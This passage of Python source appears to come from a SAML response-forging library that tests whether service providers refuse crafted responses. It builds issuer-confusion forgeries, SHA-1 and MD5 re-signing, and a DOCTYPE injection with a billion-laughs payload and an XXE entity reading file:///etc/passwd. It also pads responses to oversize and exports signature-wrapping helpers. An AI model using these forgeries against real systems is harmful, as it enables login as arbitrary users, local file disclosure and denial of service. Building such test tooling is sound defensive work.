            audiences = _descendants(assertion, SAML, "Audience")
            if not audiences:
                raise ValueError("the assertion has no saml:Audience")
            for element in audiences:
                _set_text(element, audience)
        for data in _confirmation_data(assertion):
            if recipient is not None:
                _set_attribute(data, "Recipient", recipient)
            if in_response_to is not None:
                _set_attribute(data, "InResponseTo", in_response_to)
            if confirmation_not_on_or_after is not None:
                value = confirmation_not_on_or_after
                _set_attribute(data, "NotOnOrAfter", value if value is REMOVE else _instant(value))
        if email is not None:
            for value_element in _email_values(assertion, _text(_name_id(assertion))):
                _set_text(value_element, email)
        if name_id is not None:
            _set_text(_name_id(assertion), name_id)
    plan = _signed_parts(doc)
    if plan:
        doc = _sign(doc, idp_key_pem, idp_cert_pem, plan)
    return encode(_serialize(doc))


def sha1_signed(resp: str, idp_key_pem: str, idp_cert_pem: str) -> str:
    """The response as it was, signed again by the IdP with rsa-sha1 and sha1 digests (what was
    signed, or the assertion if nothing was): an SP must refuse SHA-1 (collisions are
    practical) even from the right key."""
    doc = _parse(decode(resp))
    plan = _signing_plan(doc, algorithms=_SHA1_ALGORITHMS)
    return encode(_serialize(_sign(doc, idp_key_pem, idp_cert_pem, plan)))


def signed_with_algorithms(
    resp: str, idp_key_pem: str, idp_cert_pem: str, *, signature: str, digest: str
) -> str:
    """The response as it was, signed again by the IdP with the ``signature`` method and
    ``digest`` method URIs given (what was signed, or the assertion if nothing was), e.g.
    ``RSA_MD5`` with ``MD5``, or ``RSA_SHA256`` with ``MD5``: an SP that only refuses SHA-1 by
    name accepts them; one with an allow-list refuses them."""
    doc = _parse(decode(resp))
    plan = _signing_plan(doc, algorithms=_Algorithms(signature, digest))
    return encode(_serialize(_sign(doc, idp_key_pem, idp_cert_pem, plan)))


def asserted_by(
    resp: str, key_pem: str, cert_pem: str, *, issuer: str, identity: str | None = None
) -> str:
    """Issuer confusion: the assertion's ``<saml:Issuer>`` becomes ``issuer`` (another entity
    of the SP's metadata: a second IdP of a federation aggregate, an SP with a signing
    certificate) and it is signed with that entity's key (``key_pem``, ``cert_pem`` in
    KeyInfo); ``identity`` (optional) replaces the NameID and e-mail values. The Response is
    left unsigned, its Issuer still the SP's configured IdP. An SP that verifies an assertion
    with the keys of whatever entity it names, and checks only the Response's Issuer, accepts
    it: any entity of the metadata signs in as anyone."""
    doc = _parse(decode(resp))
    response = _response(doc)
    _strip_signature(response)
    assertion = _assertion(doc)
    issuer_element = _child(assertion, SAML, "Issuer")
    if issuer_element is None:
        raise ValueError("the assertion has no saml:Issuer")
    _set_text(issuer_element, issuer)
    if identity is not None:
        _set_identity(assertion, identity)
    algorithms = _algorithms(assertion) or _DEFAULT_ALGORITHMS
    return encode(_serialize(_sign(doc, key_pem, cert_pem, [(assertion, algorithms)])))


# -- 8: what the XML parser must refuse ----------------------------------------------------------

_ENTITY_MARKER = "SAML-FORGE-ENTITY-REFERENCES"


def with_doctype(
    resp: str,
    *,
    laughs: int = 3,
    external_url: str | None = "file:///etc/passwd",
    dtd_url: str | None = None,
) -> str:
    """A DOCTYPE with an internal subset: a small "billion laughs" (``lol0`` .. ``lol<laughs>``,
    each ten of the one before: 3 * 10**laughs characters) and an external entity ``xxe``
    (``SYSTEM external_url``; None leaves it out), both referenced in a
    ``<samlp:StatusMessage>`` (where an SP may log or show it); ``dtd_url`` adds an external
    DTD subset too (``SYSTEM dtd_url``: point it at a local server to see whether the SP
    fetches it). Once a parser has expanded the entities (lxml does by default, external ones
    included), the assertion's signature still verifies over the result (a response signature,
    which covers the Status, does not): only refusing DTDs refuses it. xmlsec1 itself, which
    keeps entity references unexpanded, fails to canonicalize the document at all. Apply it
    last: the other functions would expand the entities."""
    if laughs < 0:
        raise ValueError("laughs must be 0 or more")
    doc = _parse(decode(resp))
    response = _response(doc)
    status = _child(response, SAMLP, "Status")
    if status is None:
        raise ValueError("the response has no samlp:Status")
    message = _child(status, SAMLP, "StatusMessage")
    if message is None:
        prefix = status.prefix
        message = doc.createElementNS(
            SAMLP, f"{prefix}:StatusMessage" if prefix else "StatusMessage"
        )
        _insert(status, message, _child(status, SAMLP, "StatusDetail"))
    message.appendChild(doc.createTextNode(_ENTITY_MARKER))
    entities = ['<!ENTITY lol0 "lol">']
    entities += [
        f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10}">' for n in range(1, laughs + 1)
    ]
    references = f"&lol{laughs};"
    if external_url is not None:
        if '"' in external_url:
            raise ValueError("external_url cannot contain a double quote")
        entities.append(f'<!ENTITY xxe SYSTEM "{external_url}">')
        references += "&xxe;"
    external = ""
    if dtd_url is not None:
        if '"' in dtd_url:
            raise ValueError("dtd_url cannot contain a double quote")
        external = f' SYSTEM "{dtd_url}"'
    doctype = f"<!DOCTYPE {response.tagName}{external} [\n" + "\n".join(entities) + "\n]>\n"
    xml = _serialize(doc).replace(_ENTITY_MARKER, references, 1)
    return encode(doctype + xml)


def oversize(resp: str, size: int) -> str:
    """The response grown to exactly ``size`` bytes of XML (its base64 is about 4/3 of that) by
    a comment inside ``<samlp:Response>``: comments are outside canonicalization, so every
    signature still verifies and only a size limit refuses it."""
    doc = _parse(decode(resp))
    response = _response(doc)
    current = len(_serialize(doc).encode("utf-8"))
    padding = size - current - len("<!---->")
    if padding < 0:
        raise ValueError(f"the response is already {current} bytes: ask for more than that")
    response.appendChild(doc.createComment("x" * padding))
    xml = _serialize(doc)
    assert len(xml.encode("utf-8")) == size
    return encode(xml)


__all__ = [
    "ASSERTION_SIGNATURE",
    "EVIL_EMAIL",
    "REMOVE",
    "RESPONSE_SIGNATURE",
    "KeyPair",
    "asserted_by",
    "attacker_keypair",
    "comment_in_nameid",
    "decode",
    "encode",
    "key_in_keyinfo",
    "oversize",
    "sha1_signed",
    "signature_xpath",
    "signed_by_other_key",
    "signed_with_algorithms",
    "two_assertions",
    "unsigned",
    "verified_references",
    "with_changed",
    "with_doctype",
    "xmlsec_verify",
    "xsw_duplicated_assertion",
    "xsw_moved_assertion",
    "xsw_signed_element_elsewhere",
    "xsw_variants",
]
